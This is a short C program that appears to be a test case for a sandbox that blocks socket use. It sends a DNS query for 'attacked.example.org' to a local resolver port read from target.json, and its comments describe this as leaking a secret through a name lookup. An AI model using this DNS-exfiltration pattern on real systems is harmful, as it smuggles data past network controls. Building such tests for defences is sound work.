// goal: ask a name server for a name that holds a secret
// success: reaches udp
// held_by: calls:sockets + calls:socket use
#include <arpa/inet.h>
#include <resolv.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

int main(void) {
	char text[8192] = {0};
	fread(text, 1, sizeof text - 1, fopen("target.json", "r"));
	res_init();
	_res.nscount = 1;
	_res.retrans = _res.retry = 1;
	_res.nsaddr_list[0].sin_family = AF_INET;
	_res.nsaddr_list[0].sin_port = htons(atoi(strstr(text, "\"udp\": ") + 7));
	_res.nsaddr_list[0].sin_addr.s_addr = inet_addr("127.0.0.1");
	unsigned char answer[512];
	if (res_query("attacked.example.org", 1, 1, answer, sizeof answer) < 0)
		perror("res_query");
	return 0;
}
